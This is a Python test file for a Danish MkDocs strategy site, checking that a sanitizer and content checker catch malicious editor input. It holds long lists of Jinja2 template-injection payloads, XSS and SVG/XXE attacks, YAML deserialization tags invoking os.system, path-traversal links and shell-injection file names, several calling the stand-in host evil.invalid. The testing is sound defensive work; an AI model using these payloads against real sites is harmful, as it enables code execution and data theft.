"""What an editor with bad intent may send in: none of it runs, reads a file or reaches the site alive.

Gathered from what is publicly known of Jinja2, Python-Markdown, MkDocs and its theme, YAML, SVG and
the HTML of sanitisers. Each attack is reported with its file and line, or comes out as text.
Beside that, each goes through the renderer with all checks left out, as one would that they overlook.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree, html
from markdown import Markdown
from mkdocs.config import load_config
from mkdocs.config.defaults import MkDocsConfig
from PIL import Image
from playwright.sync_api import Browser

from kanalstrategi.content.model import Content
from kanalstrategi.content.project import read_project
from kanalstrategi.markdown.macro_calls import expand_macros, parse_macros
from kanalstrategi.rendering.macros import Call, MacroError
from kanalstrategi.sanitizing.sanitizer import Sanitizer
from kanalstrategi.sanitizing.svg import check_svg
from kanalstrategi.sanitizing.tags import _parse_fragments, fragments  # private: the slow way, which the quick one must agree with
from macros import MACROS
from tests.support.pages import FRONT, without_menu
from tests.support.project import EPOCH, ROOT, Project, copied
from tests.support.servers import serving

sanitize = Sanitizer(MACROS.classes).sanitize

CANARY = "canary-8f2c"
"""Stands in a file outside `docs/`, and in what an attack would write."""

MACRO_ATTACKS = [
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}",
    "{{ request['application']['__globals__']['__builtins__'] }}",
    "{{ lipsum.__globals__['os'].system('touch canary') }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ namespace.__init__.__globals__.os }}",
    "{{ config.theme.get_env().from_string('{{ 7*7 }}').render() }}",
    "{{ config }}",
    "{{ environment }}",
    "{{ git.raw }}",
    "{{ files }}",
    "{{ navigation.pages[0].file.abs_src_path }}",
    "{{ plugin }}",
    "{{ page.file.abs_src_path }}",
    "{{ macros_info() }}",
    "{{ macros_plugin.env }}",
    "{{ context() }}",
    "{{ pretty(variables) }}",
    "{{ fix_url('x') }}",
    "{{ now().__class__ }}",
    "{{ range(999999999) | list }}",
    "{% for i in range(999999999) %}x{% endfor %}",
    "{% for i in range(99999) %}{% for j in range(99999) %}x{% endfor %}{% endfor %}",
    "{% set x = 'a' * 999999999 %}{{ x }}",
    "{{ 'a' * 999999999 }}",
    "{{ 9 ** 999999999 }}",
    "{{ '%0999999999d' % 1 }}",
    "{{ '{0:>999999999}'.format(1) }}",
    "{{ 'x'.ljust(999999999) }}",
    "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "{% include '../mkdocs.yml' %}",
    "{% include '/etc/passwd' %}",
    "{% import 'index.md' as x %}",
    "{% from 'index.md' import x %}",
    "{% extends 'index.md' %}",
    "{% block x %}{% endblock %}",
    "{% filter upper %}x{% endfilter %}",
    "{% do x.append(1) %}",
    "{% call(x) rules() %}{% endcall %}",
    "{% autoescape false %}{% endautoescape %}",
    "{{ rules.__globals__ }}",
    "{{ rules('telefon').__class__ }}",
    "{{ rules(config) }}",
    "{{ rules('telefon') | safe }}",
    "{{ rules.__wrapped__('x') }}",
    "{{ status()() }}",
    "{{ rules(**{'channel': 'x'}) }}",
    "{{ rules(channel='telefon', call=config) }}",
    "{{ rule('\\x3cscript\\x3ealert(1)\\x3c/script\\x3e') }}",
    "{{ download('../../mkdocs') }}",
    "{{ contact('__class__') }}",
    "{{ __import__('os') }}",
    "{{ eval('1') }}",
    "{{ open('/etc/passwd').read() }}",
    "{{\n7*7\n}}",
    "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
    "{{ " + "[" * 3000,
    "{{ rules(" * 2000,
]

HTML_ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.invalid/x.js></script>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<img src=x onerror=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
    "<img src=https://evil.invalid/pixel.png>",
    "<img srcset='https://evil.invalid/pixel.png 1x'>",
    "<a href=javascript:alert(1)>klik</a>",
    "<a href='&#106;avascript:alert(1)'>klik</a>",
    "<a href=\" javascript:alert(1)\">klik</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>klik</a>",
    "<a href=\"x\"onmouseover=alert(1)>klik</a>",
    "\\<b onclick=alert(1)>tekst</b>",
    "<div onclick=alert(1)>tekst</div>",
    "<div style=\"background:url(https://evil.invalid/x)\">tekst</div>",
    "<div style='position:fixed;inset:0'>dæk alt</div>",
    "<p class=\"md-overlay\">tekst</p>",
    "<iframe src=https://evil.invalid></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=/etc/passwd></object>",
    "<embed src=https://evil.invalid/x.swf>",
    "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid'>",
    "<meta name=pdfkit-allow content=/etc>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.invalid><input name=cpr></form>",
    "<button formaction=javascript:alert(1)>klik</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>tekst</details>",
    "<marquee onstart=alert(1)>tekst</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<frameset onload=alert(1)>",
    "<body onload=alert(1)>",
    "<html manifest=x>",
    "<isindex prompt=x>",
    "<x onclick=alert(1) tabindex=1 autofocus>tekst</x>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>",
    "<!DOCTYPE html SYSTEM 'https://evil.invalid/x.dtd'>",
    "<div markdown=\"1\" onclick=\"alert(1)\">\n\ntekst\n\n</div>",
    "<div markdown>\n<script>alert(1)</script>\n</div>",
    "<pre class=\"mermaid\">graph TD</pre>",
    "<td colspan=1000000>x</td>",
    "- a\n\n    ```\n    <script>alert(1)</script>\n    ```",
    "```\n<script>alert(1)</script>",
    "> ```\n<script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "!!! note \"<img src=x onerror=alert(1)>\"\n    tekst",
    "<div>" * 200,
    # Code to CommonMark, running text to Python-Markdown.
    "-      <img class=\"web-only\" src=\"\\\\evil.invalid\\p.png\" alt=\"x\">",
    "-      <form><label>CPR <input name=\"cpr\" type=\"text\"></label> <input type=\"submit\"></form>",
    "-      <ul class=\"status\"><li><strong class=\"badge adopted\">Vedtaget</strong></li></ul>",
    " ```\n\n<form><input name=cpr></form>\n\n ```",
    "``` a b\n\n<form><input name=cpr></form>\n\n```",
    "```\n\n<form><input name=cpr></form>\n\n`````",
    "``` { .x #y onclick=alert(1) }\n<b>\n```",
    "<form class=\"filter web-only\" role=\"search\"><input id=\"regelfilter\" name=\"vis\" type=\"search\"></form>",
    "<span class=\"badge adopted\">Vedtaget</span>",
    "| " + "a | " * 40 + "\n|" + "---|" * 40 + ("\n" + "|a" * 40) * 200,
]

SEAM = "<{% raw %}{% endraw %}"
"""What is a tag once the signs around it are gone."""
HTML_ATTACKS += [
    f"{SEAM}script>alert(1)</script>",
    "<{# x #}img src=x onerror=alert(1)>",
    f"<!-- {{{{ status() }}}} -->\n\n{SEAM}ul class=\"status\">{SEAM}li>{SEAM}strong class=\"badge\">Vedtaget</strong></li></ul>",
]

ATTRIBUTE_ATTACKS = [
    "## Titel {: onclick=alert(1) }",
    "## Titel { onclick=alert(1) }",
    "tekst\n{: onclick=alert(1) }",
    "tekst\n{ onclick=alert(1) }",
    "*tekst*{: onclick=alert(1) }",
    "*tekst*{ onclick=alert(1) style=color:red }",
    "[tekst](vision-og-maal.md){: href=javascript:alert(1) }",
    "[tekst](vision-og-maal.md){: target=_blank }",
    "![tekst](../billeder/logo.svg){: src=https://evil.invalid/pixel.png }",
    "![tekst](../billeder/logo.svg){: onerror=alert(1) }",
    "## {\"base\":\"https://evil.invalid\"} {: #__config }",
    "tekst\n{: #__search }",
    "tekst\n{: data-md-component=search }",
    "tekst\n{: .md-overlay }",
    "    kode\n\ntekst\n{: .mermaid }",
    "- punkt\n    {: onclick=alert(1) }",
    "tekst\n{: style=\"background:url(https://evil.invalid/x)\" }",
]

LINK_ATTACKS = [
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](java&#115;cript:alert(1))",
    "[klik](&#x6A;avascript:alert(1))",
    "[klik](vbscript:msgbox)",
    "[klik](data:text/html;base64,PHNjcmlwdD4=)",
    "[klik](file:///etc/passwd)",
    "[klik](<javascript:alert(1)>)",
    "[klik][a]\n\n[a]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[klik](../../mkdocs.yml)",
    "[klik](../../../../../../etc/passwd)",
    "[klik](%2e%2e/%2e%2e/mkdocs.yml)",
    "[klik](/etc/passwd)",
    "[klik](\\\\evil.invalid\\x)",
    "![billede](../../mkdocs.yml)",
    "![billede](file:///etc/passwd)",
    "![billede](https://evil.invalid/pixel.png)",
    "![billede](//evil.invalid/pixel.png)",
    "![billede](data:image/svg+xml,<svg onload=alert(1)>)",
    "![billede](javascript:alert(1))",
    "[klik](http://[)",
    "--8<-- \"/etc/passwd\"\n\n![x](../hemmeligt.png)",
]

SLOW_ATTACKS = ["[" * 90_000, "<a " * 30_000, "# a\n" * 22_000, "1. " * 30_000, "> " * 40_000, "{{\n" * 30_000, "[a]: " + "x" * 3000 + "\n[a]" * 9000]

FRONT_ATTACKS = [
    "template: ../../mkdocs.yml",
    "template: main.html",
    "icon: ../../../../../etc/passwd",
    "icon: material/../../../base",
    "owner: '<script>alert(1)</script>'",
    "status: '<b>'",
    "render_macros: false",
    "ignore_macros: true",
    "macros: x",
    "search: nej",
    "hide: {a: b}",
    "title: '</title><script>alert(1)</script>'",
    "author: '\"><script>alert(1)</script>'",
    "x: !!python/object/apply:os.system ['id']",
    "x: !!python/name:os.system",
    "x: !ENV HOME",
    "x: !relative $config_dir/mkdocs.yml",
    "x: &a [1]\ny: [*a, *a]",
    "<<: {template: main.html}",
    "x: " + "[" * 3000,
    "x: " + "{a: " * 3000,
    "\u202eicon: x",
    "subchannels: [a",
    "department: '<script>alert(1)</script>'",
    "x: " + "1:" * 20_000 + "1.0",
    "x: !!timestamp 'a'",
    "x: !!bool 'a'",
    "adopted_by: \"\\ud800\"",
    "adopted_by: \"a\\0\\e[2Jb\"",
]

WORDS = [
    # Comes out as text, since that is what it is.
    "tekst <script\n>alert(1)</script\n> tekst",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "{% raw %}{{ cycler.__init__.__globals__ }}{% endraw %}",
    "## &lt;script&gt;alert(1)&lt;/script&gt; `<img src=x onerror=alert(1)>`",
    "&lt;img src=x onerror=alert(1)&gt;",
    "1 < 2 & 3 > 2, <3, a<b",
    "tekst\n{: title=\"&quot;&gt;&lt;script&gt;alert(1)\" }",
    "[klik](vision-og-maal.md \"&quot;onclick=alert(1)\")",
    "<span title='\"><script>alert(1)</script>'>tekst</span>",
    "{# <script>alert(1)</script> #}",
    "<!-- <script>alert(1)</script> -->",
    "--8<-- \"/etc/passwd\"",
    "<{#\n#}form><{% raw\n%}{% endraw %}input name=cpr>",
    "%{ 7*7 } #{ 7*7 } ${7*7} <%= 7*7 %>",
]

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}</svg>'
SVG_ATTACKS = [
    SVG.format("<script>alert(1)</script>"),
    SVG.format("<script xlink:href='https://evil.invalid/x.js'/>"),
    SVG.format("<g onload='alert(1)'/>"),
    SVG.replace("width", "onload='alert(1)' width").format(""),
    SVG.format("<a xlink:href='javascript:alert(1)'><rect width='9' height='9'/></a>"),
    SVG.format("<image xlink:href='https://evil.invalid/pixel.png'/>"),
    SVG.format("<image href='file:///etc/passwd'/>"),
    SVG.format("<use href='https://evil.invalid/x.svg#a'/>"),
    SVG.format("<g id='a'><use href='#a'/></g>"),
    SVG.format("<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>"),
    SVG.format("<animate attributeName='href' values='javascript:alert(1)'/>"),
    SVG.format("<set attributeName='onload' to='alert(1)'/>"),
    SVG.format("<style>@import 'https://evil.invalid/x.css';</style>"),
    SVG.format("<style>rect{fill:url(https://evil.invalid/x)}</style>"),
    SVG.format("<style>@font-face{src:url(//evil.invalid/x)}</style>"),
    SVG.format("<rect style='fill:url(\"https://evil.invalid/x\")'/>"),
    SVG.format("<rect style='fill:u\\72l(https://evil.invalid/x)'/>"),
    SVG.format("<rect fill='url(https://evil.invalid/x#a)'/>"),
    SVG.format("<filter id='f'><feImage href='https://evil.invalid/x'/></filter>"),
    SVG.format("<style><desc>/*</desc>@import 'https://evil.invalid/x.css';<desc>*/</desc></style>"),
    SVG.format("<style>svg{background:-webkit-image-set('https://evil.invalid/x' 1x)}</style>"),
    SVG.format("<style>svg{background:-webkit-cross-fade('https://evil.invalid/x',red,50%)}</style>"),
    SVG.format("<rect fill='u\\72l(https://evil.invalid/x)'/>"),
    SVG.format("<clipPath id='a'><rect style='clip-path:url(#a)'/></clipPath>"),
    SVG.format("<style>rect{filter:url(#a)}</style>"),
    SVG.format("<clipPath id='a'><rect clip-path='url(#a)'/></clipPath>"),
    SVG.format("<handler xmlns='http://www.w3.org/2001/xml-events'>alert(1)</handler>"),
    SVG.format("<g>" * 200 + "</g>" * 200),
    "<?xml-stylesheet href='https://evil.invalid/x.css'?>" + SVG.format(""),
    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>" + SVG.format("<text>&x;</text>"),
    "<!DOCTYPE svg [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;&a;'>]>" + SVG.format("<text>&b;</text>"),
    "<!DOCTYPE svg SYSTEM 'https://evil.invalid/x.dtd'>" + SVG.format(""),
    "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
    "<?xml version='1.0' encoding='UTF-7'?>" + SVG.format("<g id='+ACIAPgA8ACEALQAt-'><script>alert(1)</script><g id='+AC0ALQA+-'/></g>"),
    "<?xml version='1.0' encoding='UTF-7'?>" + SVG.format("<g id='+ACIAPgA8-'/>"),
    "<?xml version='1.0' encoding='ISO-2022-JP'?>" + SVG.format("<g/>"),
    SVG.format("<linearGradient id='g' x2='0.000001' spreadMethod='repeat'/>"),
    SVG.replace("width='9'", "").replace('width="9"', 'width="1e400"').format(""),
    SVG.replace("width", 'viewBox="a b" width').format(""),
    SVG.format("<text font-size='abc'>x</text>"),
    SVG.format("<text font-size='1e9'>x</text>"),
    "<svg onload=alert(1)>",
    "ikke et billede",
    "",
]
SVG_DRAWINGS = [
    SVG.format("<style type='text/css'>.st0{fill:rgb(1,2,3)}</style><g data-name='Lag 1'><rect class='st0' width='9' height='9'/></g>"),
    SVG.format("<style>.a{fill:#0c4a60}</style><rect class='a' width='9' height='9'/>"),
    SVG.format("<defs><linearGradient id='g'><stop offset='0' stop-color='red'/></linearGradient></defs><rect fill='url(#g)' style='stroke:url(#g)'/>"),
    "<?xml version='1.0' encoding='UTF-8'?>\n<!-- tegnet af os -->" + SVG.format("<title>Et kort</title><text x='1'>æøå</text>"),
]

NAMES = [
    "ondt.html", "ondt.js", "ondt.css", "ondt.xml", "ondt.php", "ondt.htm", "ondt.svgz", "ondt.py", "ondt.yml",
    "../billeder/<img src=x onerror=alert(1)>.png", "mellem rum.png", "Æøå.png", "STORT.PNG", "a\nb.png",
    "a\n::stop-commands::x.md", "a\x1b[2Jb.md", "javascript:alert(1).md", "%2e%2e.png", "a;rm -rf.png", "$(id).md", "-rf.md",
    "admin.md", "admin/index.md", "falsk.png", "index.html/x.png", "a.b/x.png",
]  # fmt: skip

def boxed(text: str) -> str:
    """The same inside a box, which markdown-it does not know."""
    return '!!! note "Husk"\n\n' + "\n".join(f"    {line}" for line in text.split("\n"))


BODIES = [*MACRO_ATTACKS, *HTML_ATTACKS, *ATTRIBUTE_ATTACKS, *LINK_ATTACKS, *SLOW_ATTACKS]
BODIES += [boxed(text) for text in (*HTML_ATTACKS, *ATTRIBUTE_ATTACKS, *LINK_ATTACKS)]


def plant(project: Project, folder: str, texts: list[str]) -> dict[str, str]:
    """Each text as a page of its own; gives the texts by the files' names."""
    files = {}
    for number, text in enumerate(texts):
        path = f"docs/{folder}/angreb-{number:03}.md"
        project.write(path, text)
        files[path] = text
    return files


def told_of(project: Project, files: dict[str, str]) -> dict[str, list[str]]:
    """The lines of check.py by file. They are lines: nothing in a name or a text breaks one in two."""
    lines = project.check()
    reported: dict[str, list[str]] = {name: [] for name in files}
    for line in lines:
        match = re.fullmatch(r"([^:]+(?::[^:]*)?\.\w+):(\d+): (.+) – (.+)", line)
        assert match, line
        assert line.isprintable() or "\xa0" in line
        reported.setdefault(match.group(1), []).append(line)
        if match.group(1) in files:
            assert int(match.group(2)) <= files[match.group(1)].count("\n") + 1, line
    return reported


def test_there_are_hundreds_of_attacks() -> None:
    assert len({*BODIES, *FRONT_ATTACKS, *SVG_ATTACKS, *NAMES}) > 200


def test_every_attack_in_a_page_is_reported_with_its_line(project: Project) -> None:
    files = plant(without_menu(project), "strategi", [FRONT.format(description="x") + text for text in BODIES])
    reported = told_of(project, files)
    assert [text[-60:] for name, text in files.items() if not reported[name]] == []
    assert {name for name in reported if reported[name]} == set(files)
    title = FRONT.count("\n") - 1
    for name, lines in reported.items():
        assert all(int(line.split(":")[1]) >= title for line in lines), lines  # not somewhere among the facts


def test_every_attack_in_front_matter_is_reported_with_its_line(project: Project) -> None:
    texts = [FRONT.format(description="x").replace("\n---\n\n", f"\n{attack}\n---\n\n") for attack in FRONT_ATTACKS]
    files = plant(without_menu(project), "strategi", texts)
    reported = told_of(project, files)
    assert [text for name, text in files.items() if not reported[name]] == []


def test_a_page_cannot_smuggle_front_matter_in(project: Project) -> None:
    """What MkDocs reads of a page's facts is what the checks have read."""
    project.write("docs/strategi/formaal.md", "template: main.html\ntitle: x\n\n# Titel\n")  # MultiMarkdown's form
    assert [line for line in project.check() if "formaal.md:1: siden mangler sine felter øverst" in line]


def alive(result: str) -> list[str]:
    """What could run, load or cover something, by an account of its own of what that is."""
    tree = html.document_fromstring(f"<body>{result}</body>")
    found = []
    for element in tree.iter(etree.Element):
        tag = str(element.tag)
        if tag in ("script", "iframe", "object", "embed", "base", "meta", "link", "style", "frame", "frameset", "math", "foreignobject",
                   "animate", "set", "video", "audio", "source", "button", "textarea", "select", "template", "marquee", "applet"):  # fmt: skip
            found.append(tag)
        for name, value in element.attrib.items():
            url = re.sub(r"[\x00-\x20]", "", value).casefold()
            if name.startswith("on") or name.startswith("data-md") or name in ("srcset", "srcdoc", "formaction", "action"):
                found.append(name)
            if name in ("href", "src", "xlink:href") and re.match(r"(?!https?:|mailto:|tel:)[a-z][a-z0-9+.-]*:", url):
                found.append(value)
            if name == "src" and re.match(r"[a-z]+:|//|\\\\", url):
                found.append(value)
            if name == "style" and re.search(r"url|position|@", url):
                found.append(value)
            if name == "id" and value.startswith("__"):
                found.append(value)
            if name == "class" and re.search(r"\b(md-(?!button)|mermaid)", value):
                found.append(value)
    return found


@pytest.fixture(scope="module")
def config() -> MkDocsConfig:
    return load_config(str(ROOT / "mkdocs.yml"))


@pytest.mark.parametrize("wrap", [str, boxed], ids=["as it is", "in a box"])
@pytest.mark.parametrize("text", [*HTML_ATTACKS, *ATTRIBUTE_ATTACKS, *LINK_ATTACKS, *WORDS])
def test_the_sanitizer_catches_what_the_checks_would_overlook(config: MkDocsConfig, text: str, wrap: Callable[[str], str]) -> None:
    # Markdown as the build has it.
    rendered = Markdown(extensions=config.markdown_extensions, extension_configs=config.mdx_configs).convert(wrap(text))
    result, removed = sanitize(rendered)
    assert alive(result) == []
    # What was alive is not dropped without a word.
    assert removed or not alive(rendered)


def test_the_search_for_active_content_finds_it() -> None:
    for text in ("<script>x</script>", "<p onclick=x>", "<a href=' java\nscript:x'>", "<img src='//x'>", "<p style='position:fixed'>",
                 "<p id='__config'>", "<pre class='mermaid'>", "<form action=x>"):  # fmt: skip
        assert alive(text), text


@pytest.fixture(scope="module")
def content() -> Content:
    return read_project(ROOT, {"SOURCE_DATE_EPOCH": str(EPOCH)}).content


@pytest.mark.parametrize("text", MACRO_ATTACKS)
def test_a_page_is_not_a_program(content: Content, text: str) -> None:
    call = Call(content, content.pages["strategi/formaal.md"])
    bound = {name: lambda *words, macro=macro: macro(call, *words) for name, macro in MACROS.items()}
    with pytest.raises((ValueError, LookupError, TypeError, MacroError)):
        expand_macros(parse_macros(text), bound)


def test_the_macros_plugin_evaluates_nothing(project: Project) -> None:
    """mkdocs-macros renders with the environment that we put in the place of its own."""
    code = (
        "import sys; sys.path.insert(0, '.'); from mkdocs.config import load_config; from mkdocs.structure.files import get_files\n"
        "from mkdocs.structure.nav import get_navigation; from mkdocs.structure.pages import Page\n"
        "config = load_config('mkdocs.yml'); config.plugins.on_startup(command='build', dirty=False)\n"
        "config = config.plugins.on_config(config); files = get_files(config); config.plugins.on_nav(get_navigation(files, config), config=config, files=files)\n"
        "page = Page(None, files.get_file_from_path('strategi/formaal.md'), config); page.meta = {'render_macros': False}; page.title = 'x'\n"
        "plugin = config.plugins['macros']\n"
        "print(plugin.on_page_markdown('{% raw %}{{ 7*7 }}{% endraw %} {{ rule(\"telefon-ring\") }}', page=page, config=config, files=files))\n"
        "print(type(plugin.env).__name__, sorted(set(dir(plugin.variables['page'])) - set(dir(object()))))\n"
        "plugin.on_page_markdown('{{ 7*7 }}', page=page, config=config, files=files)\n"
        "print('er kørt')\n"
    )
    process = subprocess.run([sys.executable, "-c", code], cwd=project.root, capture_output=True, text=True)
    assert "{{ 7*7 }} <span" in process.stdout and "vi skal ringe, når" in process.stdout, process.stdout + process.stderr
    assert "PageEnvironment" in process.stdout and "'file'" not in process.stdout
    assert process.returncode != 0 and "er kørt" not in process.stdout and "49" not in process.stdout


@pytest.mark.parametrize("drawing", SVG_ATTACKS)
def test_an_svg_file_with_active_content_is_refused(drawing: str) -> None:
    errors = list(check_svg(drawing.encode()))
    assert errors and all(error.line >= 1 and "SVG" in error.message + error.hint for error in errors)


@pytest.mark.parametrize("drawing", SVG_DRAWINGS)
def test_a_harmless_svg_file_is_accepted(drawing: str) -> None:
    assert list(check_svg(drawing.encode())) == []


def test_svg_files_are_checked_with_file_and_line(project: Project) -> None:
    project.write("docs/billeder/kort.svg", SVG.format("\n<g/>\n<script>alert(1)</script>"))
    assert [line.split(" – ")[0] for line in project.check()] == ["docs/billeder/kort.svg:3: <script> kan ikke bruges i et SVG-billede"]


def test_names_and_kinds_of_files(project: Project) -> None:
    without_menu(project)
    for name in NAMES:
        file = project.root / "docs/strategi" / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(FRONT.format(description="x") if name.endswith(".md") else CANARY, encoding="utf-8")
    reported = "\n".join(project.check())
    assert all(line.startswith("docs/") for line in reported.split("\n")), reported
    for name in NAMES:
        if name == "admin.md" or name.startswith("admin/"):
            continue  # only at the root
        shown = "".join(sign if sign.isprintable() else "�" for sign in name).removeprefix("../billeder/")
        assert f"{shown}:" in reported, name
    project.write("docs/search/search-index.csv", "a,b\n")
    assert "docs/search/search-index.csv:1: navnet search er taget af hjemmesiden selv – giv den et andet navn" in project.check()
    project.write("docs/admin.md", FRONT.format(description="x"))
    assert "docs/admin.md:1: navnet admin er taget af redigeringen i browseren – giv den et andet navn" in project.check()


def test_the_template_is_a_page_like_others(project: Project) -> None:
    template = "docs/skabeloner/retningslinje.md"
    text = (project.root / template).read_text(encoding="utf-8")
    lines = text.count("\n")
    project.write(template, text.replace("owner: ikke-udpeget", "owner: findes-ikke") + "\n<script>alert(1)</script>\n\n[x](findes-ikke.md)\n")
    reported = "\n".join(project.check())
    assert f"{template}:{lines + 2}: HTML-mærket <script> kan ikke bruges" in reported and "den ansvarlige findes-ikke findes ikke" in reported
    assert f"{template}:{lines + 4}: linket peger på findes-ikke.md" in reported
    project.write(template, text + "\n" + "[" * 90_000)
    assert [line for line in project.check() if line.startswith(f"{template}:{lines + 2}: siden tager for lang tid at læse")]


HIDDEN = [
    'Skriv class="status" her, og `<ul class="status">`.',
    "<details markdown>\n<summary>Mere</summary>\n\n{{ status() }}\n\n</details>",
    "- a\n\n    {{ status() }}",
    "Tekst.\n\n{{ status() }}",
    "## Bilag {: .web-only }\n\n{{ status() }}",
    "    {{ status() }}",
]


def test_a_draft_cannot_hide_that_it_is_one(project: Project) -> None:
    draft = FRONT.format(description="x").replace("status: adopted", "status: draft")
    files = plant(without_menu(project), "strategi", [f"{draft}Tekst.\n\n{hidden}\n" for hidden in HIDDEN])
    assert project.check() == []
    process = project.build()
    assert process.returncode == 0, process.stdout
    for path, written in files.items():
        built = html.parse(str(project.site / path.removeprefix("docs/").replace(".md", "/index.html")))
        (status,) = built.xpath("//article/h1/following-sibling::*[1][self::ul[contains(@class, 'status')]]")
        assert status.xpath(".//strong[contains(@class, 'draft')]"), written[-60:]


def test_dropped_macro_output_excuses_nothing_else() -> None:
    mark = '<ul class="status" data-search-exclude><li><strong class="badge draft">Udkast</strong></li></ul>'
    forged = '<ul class="status"><li><strong class="badge">Vedtaget</strong></li></ul>'
    assert sanitize(f"<h1>a</h1>{mark}", [mark])[1] == []
    assert 'class="status"' in sanitize(f"<h1>a</h1><!-- {mark} -->{forged}", [mark])[1]
    assert 'class="status"' in sanitize(f"<h1>a</h1>{mark}{forged}", [mark])[1]
    assert 'class="status"' in sanitize(f"<h1>a</h1>{mark}{forged}", [mark, mark])[1]


PARTS_OF_HTML = st.sampled_from([
    "<p>", "</p>", '<p class="a b" id="c">', '<ul data-search-exclude class="status">', "<br />", "<br/>", "<BR>", '<a href="?a&amp;b=&#39;c">', "<svg viewBox='0'>",
    '<p title="a > b">', '<p title="<i>">', "<p title=a>", '<p title="a" "b">', '<p a="b"c="d">', '<p  a\n=\n"b" / >', "</p class>", '<td style="text-align: left">',
    "<script>", "</script>", "<style>", "<textarea>", "<title>", "<plaintext>", "<xmp>", "<form hidden>", "<x-y>", "<a:b>", "<p.q>", "<p/i>", "<>", "</>", "</ p>", "<3",
    "<!-- ", "-->", "<!-->", "<![CDATA[", "]]>", "<!doctype html>", "<?php", "?>", "&amp;", "&lt;", "&#x3c;", "&#60", "&#;", "&#x;", "&", "&a", "&a;", "&copy=", "<", ">", '"', "'", "\0", "/",
]) | st.text("<>/&;#=\"' \t\n\0!-aApx1", max_size=6) | st.text(max_size=4)  # fmt: skip


@settings(deadline=None, max_examples=500)
@given(st.lists(PARTS_OF_HTML, max_size=12))
def test_both_ways_of_reading_tags_agree(parts: list[str]) -> None:
    written = "".join(parts)
    for page in (written, sanitize(written)[0], "".join(f"<p>{part}</p>" for part in parts)):
        assert fragments(page) == _parse_fragments(page), page


def test_an_icon_is_a_macros_in_a_heading_too() -> None:
    icon = '<span class="icon" data-icon="material/phone" aria-hidden="true"><svg><path d="M0 0"></path></svg></span>'
    result = f"<p>a</p>\n\n## {icon}Telefon {{: #telefon }}"
    page = f'<p>a</p><h2 id="telefon">{icon}Telefon</h2>'
    assert sanitize(page, [result])[1] == []
    assert 'class="icon"' in sanitize(page + icon, [result])[1]
    assert 'class="icon"' in sanitize(page, ["<p>a</p>\n\n## Telefon {: #telefon }"])[1]


def test_a_title_that_only_one_reader_sees(project: Project) -> None:
    lines = {}
    for page, old, title in (("formaal", "# Formål\n", "Titel\nmere\n====="), ("vision-og-maal", "# Vision og mål\n", " # Titel")):
        lines[page] = project.replace(f"docs/strategi/{page}.md", old, f"{title}\n")
    process = project.build()
    assert process.returncode == 1
    for page, line in lines.items():
        assert f"docs/strategi/{page}.md:{line}: titlen kom ikke med på siden – skriv den som `# Titel` yderst på en linje for sig" in process.stdout


def test_a_note_hides_no_decision_from_the_counts(project: Project) -> None:
    project.remove_documents()
    skoler, telefon = "docs/retningslinjer/skoler.md", "docs/kanaler/telefon-og-videomoeder.md"
    before = read_project(project.root, {}).content
    decision = "- [ ] Fast gennemgang: Hvor ofte gennemgås siderne, og hvem ser efter, at det sker?"
    project.replace(skoler, decision, f'{{#\n{decision}\n#}}\n- [ ] Andet: `decision open"`, hvem?')
    project.replace(telefon, "at regler for notatpligt og journalisering overholdes\n", "at regler for {# ikke #}<b>notatpligt</b> og journalisering overholdes\n")
    assert project.check() == []
    after = read_project(project.root, {}).content
    assert after.rules["telefon-notatpligt"].text == before.rules["telefon-notatpligt"].text
    texts = [decision.text for guideline in after.guidelines if guideline.id == "skoler" for decision in guideline.decisions]
    assert "Fast gennemgang: Hvor ofte gennemgås siderne, og hvem ser efter, at det sker?" not in texts
    assert project.build().returncode == 0


def test_an_image_that_cannot_be_drawn_is_named(project: Project) -> None:
